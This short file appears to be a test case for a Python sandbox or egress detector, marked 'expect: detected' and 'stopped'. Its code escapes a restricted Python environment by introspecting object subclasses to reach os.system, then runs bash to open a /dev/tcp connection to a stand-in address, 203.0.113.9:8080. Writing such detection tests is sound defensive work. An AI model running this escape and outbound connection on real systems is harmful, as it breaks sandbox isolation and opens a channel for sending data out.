# expect: detected
# threat: 28 shell reached by introspection
# at: either
# family: egress
# severity: medium
# decision: stopped

wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
wrap.__init__.__globals__["system"]("bash -c 'exec 3<>/dev/tcp/203.0.113.9/8080'")
